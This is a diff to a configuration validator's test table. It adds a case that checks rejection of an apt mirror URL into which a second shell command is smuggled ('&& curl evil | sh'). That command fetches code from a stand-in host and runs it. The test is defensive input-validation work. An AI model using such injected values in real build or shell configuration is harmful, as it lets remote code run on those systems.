@@ -32,6 +32,10 @@ REFUSALS = {
                            ["log-opts 'max-file' is 3 (an integer); the engine takes only strings here, write '3'"]),
     "image sources": ({"images_sources": {"synapse": "compile", "gateway": "build"}},
                       ["must map synapse and gateway to build or mirror"]),
+    # They go into Dockerfile and shell lines.
+    "build mirror": ({"images_apt_mirror": "http://mirror.example/debian\" && curl evil | sh #"},
+                     ["images_apt_mirror='http://mirror.example/debian\" && curl evil | sh #'",
+                      "must be empty or an http(s)://host[:port]/path URL"]),
     "admin networks": ({"gateway_admin_networks": ["10.0.0.0"]},
                        ["gateway_admin_networks must list networks in CIDR form (192.0.2.0/24, 10.1.2.3/32, ::1/128);"
                         " not CIDR: 10.0.0.0."]),
